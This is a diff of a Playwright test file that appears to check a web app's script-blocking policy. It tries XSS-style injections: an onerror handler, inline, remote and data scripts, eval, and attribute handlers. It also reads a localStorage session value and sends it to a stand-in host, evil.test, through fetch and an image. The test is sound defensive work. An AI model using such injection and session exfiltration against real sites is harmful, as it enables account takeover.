@@ -3,54 +3,67 @@ import { newClient } from './people.ts'
 import { desk, expect, type Mehfil, test } from './stage.ts'
 
 const elsewhere = 'https://evil.test'
+const onePixel = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
 
 /** What a script that got in would try to run or to send away; each says whether it got anywhere. */
 async function breakIn(page: Page): Promise<Record<string, boolean>> {
   return page.evaluate(async (away) => {
     const marks = window as unknown as { ran?: boolean }
     const loot = encodeURIComponent(localStorage.getItem('mehfil.session') ?? 'nothing')
-    const runs = async (attempt: () => void) => {
+    /** The browser says that it has fetched something, or that it will not. */
+    const settled = (element: Element) =>
+      new Promise((resolve) => {
+        element.addEventListener('load', resolve)
+        element.addEventListener('error', resolve)
+      })
+    /** @param attempt gives back what has to be fetched first */
+    const runs = async (attempt: () => Element | null | undefined) => {
+      // In a task of the page's own: in the one that a debugger began the policy lets eval pass.
+      await new Promise((resolve) => setTimeout(resolve))
       marks.ran = false
       try {
-        attempt()
+        const fetched = attempt()
+        if (fetched) await settled(fetched)
       } catch {
         // Refused at once.
       }
-      await new Promise((resolve) => setTimeout(resolve, 100))
       return Boolean(marks.ran)
     }
     const add = (make: (script: HTMLScriptElement) => void) => {
       const script = document.createElement('script')
       make(script)
       document.body.append(script)
+      return script
     }
     const sends = (attempt: () => Promise<unknown>) =>
       attempt().then(
         () => true,
         () => false,
       )
-    const loads = (image: HTMLImageElement | HTMLIFrameElement) =>
-      new Promise((resolve, reject) => {
-        image.addEventListener('load', resolve)
-        image.addEventListener('error', reject)
-        image.src = `${away}/?${loot}`
-        document.body.append(image)
-        setTimeout(reject, 500)
-      })
+    const loads = async (image: HTMLImageElement) => {
+      image.src = `${away}/?${loot}`
+      await image.decode()
+    }
     return {
       'markup with a handler': await runs(() => {
         document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="window.ran = true">')
+        return document.body.lastElementChild
       }),
-      'a script of text': await runs(() => add((script) => (script.text = 'window.ran = true'))),
+      'a script of text': await runs(() => {
+        add((script) => (script.text = 'window.ran = true'))
+        return null
+      }),
       'a script from elsewhere': await runs(() => add((script) => (script.src = `${away}/x.js`))),
       'a script as data': await runs(() => add((script) => (script.src = 'data:text/javascript,window.ran=true'))),
       eval: await runs(() => {
         // biome-ignore lint/security/noGlobalEval: that is what is tried
         globalThis.eval('window.ran = true')
+        return null
       }),
       'a handler as text': await runs(() => {
         document.body.setAttribute('onclick', 'window.ran = true')
         document.body.click()
+        return null
       }),
       'a request': await sends(() => fetch(`${away}/?${loot}`, { mode: 'no-cors' })),
       'a picture': await sends(() => loads(new Image())),
@@ -62,12 +75,9 @@ async function reached(page: Page): Promise<string[]> {
   const addresses: string[] = []
   await page.route(`${elsewhere}/**`, (route) => {
     addresses.push(route.request().url())
-    return route.fulfill({
-      status: 200,
-      contentType: 'text/javascript',
-      headers: { 'access-control-allow-origin': '*' },
-      body: 'window.ran = true',
-    })
+    const [contentType, body] =
+      route.request().resourceType() === 'image' ? ['image/svg+xml', onePixel] : ['text/javascript', 'window.ran = true']
+    return route.fulfill({ status: 200, contentType, headers: { 'access-control-allow-origin': '*' }, body })
   })
   return addresses
 }
@@ -105,9 +115,8 @@ test('a script that got into a page runs nothing, sends nothing away and is repo
   const page = await open.newPage()
   const addresses = await reached(page)
   await page.goto('/')
-  const worked = Object.values(await breakIn(page)).filter(Boolean).length
-  expect(worked).toBeGreaterThanOrEqual(5)
-  expect(addresses.length).toBeGreaterThanOrEqual(2)
+  expect(Object.entries(await breakIn(page)).filter(([, worked]) => !worked)).toEqual([])
+  expect(addresses, 'the script, the request and the picture').toHaveLength(3)
   await open.close()
 })
 
